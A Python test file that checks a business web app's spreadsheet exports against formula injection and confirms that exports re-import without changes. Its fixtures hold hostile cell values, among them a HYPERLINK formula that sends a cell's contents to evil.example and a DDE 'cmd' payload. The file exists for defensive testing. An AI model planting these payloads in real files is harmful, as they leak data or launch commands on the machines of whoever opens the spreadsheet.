"""Formula injection: text users typed never becomes a live formula in any xlsx the app writes
(web exports, report tables, 培育库, problem report, templates, CLI export), numbers stay
numbers, and an export still imports back with zero changes."""

from __future__ import annotations

import io
import re
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from import_support import run
from openpyxl import load_workbook

from cultivation import spreadsheet
from cultivation.enterprises.credit_code import make_code
from cultivation.screening.services import run_screening
from cultivation.visits.models import Visit

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
HOSTILE_NAMES = [EVIL, "+加号科技有限公司", "-减号科技有限公司", "@艾特科技有限公司",
                 "'引号科技有限公司", "''=双引号科技有限公司"]
ADVISOR_NAME = "=cmd|' /C calc'!A0"
SOURCE = Path(__file__).resolve().parents[2] / "cultivation"


def code(n: int) -> str:
    return make_code("91331024", f"{63000000 + n:08d}")


@pytest.fixture
def hostile(db_session, make_user, make_enterprise):
    advisor = make_user("advisor", display_name=ADVISOR_NAME)
    firms = []
    for n, name in enumerate(HOSTILE_NAMES, start=1):
        firms.append(make_enterprise(
            credit_code=code(n), name=name, tier="hnte", advisor=advisor, above_scale=True,
            listed=True, contact_person="+张三", contact_phone="-0576-1", address="@仙居县",
            contact_email="a@b.cn",
            figures={2025: {"employees": 120, "total_revenue": 4400.5, "net_assets": -12.5}}))
    db_session.add(Visit(enterprise_id=firms[0].id, advisor_id=advisor.id,
                         visited_on=date(2020, 1, 2), notes="=1+1"))
    db_session.flush()
    run_screening(db_session, as_of=date(2026, 6, 30), now=datetime(2026, 6, 30, tzinfo=UTC))
    return advisor, firms


WEB_EXPORTS = [
    "/imports/export/enterprises.xlsx",
    "/imports/export/figures.xlsx",
    "/imports/export/qualifications.xlsx",
    "/reports/coverage?format=xlsx",
    "/reports/coverage?format=xlsx&table=advisors",
    "/reports/workload?format=xlsx",
    "/reports/workload?format=xlsx&table=stale",
    "/screening/candidates?rules=tech-sme&format=xlsx",  # 高企 holders are no 高企 candidates
]


def _unsafe_cells(book) -> list[str]:
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str)
                                             and cell.value.startswith(spreadsheet.FORMULA_STARTS)):
                    found.append(f"{sheet.title}!{cell.coordinate}={cell.value!r}")
    return found


def _values(book) -> list[object]:
    return [c for s in book.worksheets for r in s.iter_rows(values_only=True) for c in r]


@pytest.mark.parametrize("url", WEB_EXPORTS)
def test_no_web_export_holds_a_live_formula(auth, client, hostile, url):
    auth.login("admin")
    response = client.get(url)
    assert response.status_code == 200, url
    book = load_workbook(io.BytesIO(response.get_data()))
    assert _unsafe_cells(book) == []
    values = _values(book)
    expected = "'" + (ADVISOR_NAME if "advisors" in url or url.endswith("workload?format=xlsx")
                      else EVIL)
    assert expected in values  # still there, as text a reader can see


def test_numbers_stay_numbers(auth, client, hostile):
    auth.login("admin")
    book = load_workbook(io.BytesIO(client.get("/imports/export/figures.xlsx").get_data()))
    values = _values(book)
    assert {-12.5, 4400.5, 120} <= set(values)
    assert "'-12.5" not in values


def test_the_problem_report_and_templates_hold_no_formula(auth, client, hostile, tmp_path):
    auth.login("admin")
    path = tmp_path / "bad.csv"
    path.write_text("统一社会信用代码,年度,职工总数\n" f"{code(1)},2025,=1+2\n" "=SUM(A1),2025,3\n",
                    encoding="utf-8")
    page = auth.post("/imports", {"file": (io.BytesIO(path.read_bytes()), "bad.csv"),
                                  "kind": "auto"}, content_type="multipart/form-data")
    location = page.headers["Location"]
    batch_id = int(re.search(r"/imports/(\d+)", location).group(1))
    auth.post(f"/imports/{batch_id}/check", {}, form_url=location)
    report = load_workbook(io.BytesIO(client.get(f"/imports/{batch_id}/errors.xlsx").get_data()))
    assert _unsafe_cells(report) == []
    assert {"'=1+2", "'=SUM(A1)"} <= set(_values(report))
    for kind in ("firms", "figures", "qualifications"):
        template = client.get(f"/imports/templates/{kind}.xlsx")
        assert _unsafe_cells(load_workbook(io.BytesIO(template.get_data()))) == []


def test_the_cli_export_holds_no_formula(runner, hostile, tmp_path):
    for kind in ("enterprises", "figures", "qualifications"):
        target = tmp_path / f"{kind}.xlsx"
        assert runner.invoke(args=["export", kind, str(target)]).exit_code == 0
        assert _unsafe_cells(load_workbook(target)) == []
    assert "'" + EVIL in _values(load_workbook(tmp_path / "enterprises.xlsx"))


@pytest.mark.parametrize("role", ["admin", "advisor"])
@pytest.mark.parametrize("name", ["enterprises", "figures", "qualifications"])
def test_a_web_export_imports_back_with_zero_changes(auth, client, db_session, hostile, tmp_path,
                                                     make_enterprise, role, name):
    advisor, _ = hostile
    make_enterprise(credit_code=code(90), name="=别人的企业", contact_phone="@1",
                    figures={2025: {"employees": 3}})  # outside the advisor's portfolio
    user = auth.login("admin" if role == "admin" else advisor)
    path = tmp_path / f"{name}.xlsx"
    path.write_bytes(client.get(f"/imports/export/{name}.xlsx").get_data())
    report = run(db_session, path, user=user)
    assert report.errors == []
    assert (report.to_create, report.to_update) == (0, 0)
    assert report.unchanged == report.valid > 0
    assert report.valid + len(report.skipped) == report.rows
    if role == "admin":
        assert report.skipped == []


@pytest.mark.parametrize("text", [
    EVIL, "+1", "-1", "@a", "\tx", "\rx", "'", "''", "'=", "''=x", "'a", "a'", "=", "普通文本", "",
])
def test_neutralise_and_restore_are_inverse(text):
    written = spreadsheet.neutralise(text)
    assert not written.startswith(spreadsheet.FORMULA_STARTS)
    assert spreadsheet.restore_text(written) == text


def test_text_is_written_as_a_string_cell_and_numbers_as_numbers():
    book = spreadsheet.new_workbook()
    sheet = book.active
    formula = spreadsheet.write(sheet, 1, 1, "=1+1")
    number = spreadsheet.write(sheet, 1, 2, -3.5)
    assert (formula.data_type, formula.value) == ("s", "'=1+1")
    assert (number.data_type, number.value) == ("n", -3.5)
    assert spreadsheet.write(sheet, 1, 3, "坏\x01字符").value == "坏字符"  # no 500 on export


def test_every_spreadsheet_writer_goes_through_the_one_module():
    """No other module creates workbooks or cells itself, and nothing writes csv."""
    allowed = {SOURCE / "spreadsheet.py"}
    offenders = []
    pattern = re.compile(r"\bWorkbook\(|WriteOnlyCell\(|\.cell\(row=|csv\.writer|DictWriter")
    for path in SOURCE.rglob("*.py"):
        if path not in allowed and pattern.search(path.read_text(encoding="utf-8")):
            offenders.append(str(path.relative_to(SOURCE)))
    assert offenders == []
